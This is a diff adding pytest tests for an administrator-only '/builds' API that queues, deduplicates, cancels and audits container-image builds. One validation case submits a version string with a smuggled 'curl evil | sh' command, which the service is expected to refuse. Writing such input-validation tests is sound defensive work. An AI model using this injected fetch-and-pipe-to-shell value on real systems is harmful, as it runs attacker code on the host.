@@ -1,0 +1,97 @@
+"""``/builds``: orders over HTTP, in the name of an administrator."""
+
+from __future__ import annotations
+
+import shutil
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from modak.builds.worker import turn
+from tests.api.test_access import Site
+
+RECIPE = {"framework": "pytorch", "version": "2.13.0", "variant": "pip"}
+
+
+@pytest.fixture
+def site(own_database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Site:
+    """A service on a machine that can build nothing."""
+    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
+    return Site(own_database, images_dir=str(tmp_path / "images"))
+
+
+def order(site: Site, document: Any, scope: str | None = "admin") -> Any:
+    """``POST /builds``."""
+    return site.call("POST", "/builds", site.keys[scope] if scope else None, json=document)
+
+
+@pytest.mark.parametrize(("scope", "status"), [(None, 401), ("optimise", 403), ("load", 403)])
+def test_orders_are_administrators(site: Site, tmp_path: Path, scope: str | None, status: int) -> None:
+    """Nobody else makes the service run anything or write a file."""
+    assert order(site, {"recipe": RECIPE}, scope).status_code == status
+    assert not (tmp_path / "images").exists()
+
+
+@pytest.mark.parametrize(
+    ("document", "field"),
+    [
+        ({}, "recipe"),
+        ({"recipe": RECIPE, "job": {}}, "recipe"),
+        ({"recipe": {**RECIPE, "version": "2.13.0; curl evil | sh"}}, "version"),
+        ({"recipe": RECIPE, "definition": "Bootstrap: docker"}, "definition"),
+        ({"recipe": RECIPE, "runtime": "podman-hpc"}, "runtime"),
+        ({"recipe": RECIPE, "also": ["tar"]}, "also"),
+        ({"recipe": RECIPE, "offline": True}, "offline"),
+    ],
+)
+def test_what_is_no_order_is_refused(site: Site, tmp_path: Path, document: Any, field: str) -> None:
+    """Text of a recipe is code: it is never taken. Nothing is stored."""
+    answer = order(site, document)
+    assert (answer.status_code, answer.json()["errors"][0]["field"]) == (422, field)
+    assert site.call("GET", "/builds").json()["items"] == []
+
+
+def test_an_order_is_answered_at_once_and_shared(site: Site, tmp_path: Path) -> None:
+    """202 with the place to look at; a second order for the same is the same build; the trail says who. It can be cancelled, once."""
+    (tmp_path / "images").mkdir()
+    with turn(tmp_path / "images"):  # this process is the builder, and builds nothing
+        first, second = order(site, {"recipe": RECIPE}), order(site, {"recipe": RECIPE, "runtime": "singularity"})
+        assert (first.status_code, first.headers["location"]) == (202, f"/builds/{first.json()['id']}")
+        assert (first.json()["state"], second.json()["id"]) == ("queued", first.json()["id"])
+        other = order(site, {"recipe": RECIPE, "runtime": "charliecloud", "also": ["tar"]}).json()
+        assert other["id"] != first.json()["id"]
+        place = first.headers["location"]
+        assert site.call("GET", place).json()["requested_by"] == "key:admin"
+        assert site.call("DELETE", place, site.keys["admin"]).json()["state"] == "cancelled"
+        assert site.call("DELETE", place, site.keys["admin"]).status_code == 409
+    trail = [line["action"] for line in site.call("GET", "/audit", site.keys["admin"]).json()["items"]]
+    assert trail[:3] == ["cancel build", "build image", "build image"]
+
+
+def test_a_job_that_needs_no_build_is_not_found(site: Site, document: dict[str, Any]) -> None:
+    """The message names the image that it has."""
+    answer = order(site, {"job": document["job"]})
+    assert (answer.status_code, "that request needs no build" in answer.json()["detail"]) == (404, True)
+
+
+def test_a_builder_comes_by_itself(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Started by the order, gone when nothing waits; why the build failed is its message, in one line. Logs are administrators'."""
+    (tmp_path / "empty").mkdir()
+    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
+    place = order(site, {"recipe": RECIPE}).headers["location"]
+    deadline = time.monotonic() + 100
+    while (told := site.call("GET", place).json())["state"] in ("queued", "running"):
+        assert time.monotonic() < deadline
+        time.sleep(0.2)
+    assert (told["state"], told["message"].splitlines()) == ("failed", [told["message"]])
+    assert "apptainer or singularity is not on this machine" in told["message"]
+    assert (site.call("GET", f"{place}/log").status_code, site.call("GET", f"{place}/log", site.keys["admin"]).status_code) == (401, 200)
+    assert [each.name for each in (tmp_path / "images").glob(".build-*")] == []
+    assert shutil.which("apptainer") is None
+
+
+def test_an_unknown_build(site: Site) -> None:
+    """404."""
+    assert site.call("GET", "/builds/0").status_code == 404
